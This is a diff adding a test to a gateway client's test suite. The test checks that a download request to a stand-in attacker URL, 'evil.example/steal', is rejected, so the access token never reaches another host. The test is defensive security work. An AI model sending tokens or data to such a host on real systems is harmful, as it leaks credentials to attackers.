@@ -107,6 +107,14 @@ describe('writes', () => {
   });
 });
 
+describe('downloads', () => {
+  it('never send the token to another host', async () => {
+    await expect(
+      e.gateway.platform.download('http://evil.example/steal', 'recordings'),
+    ).rejects.toMatchObject({ code: 'upstream_error', status: 502 });
+  });
+});
+
 describe('budgets and Retry-After', () => {
   it('pace calls past the per-second budget', () => {
     let t = 0;
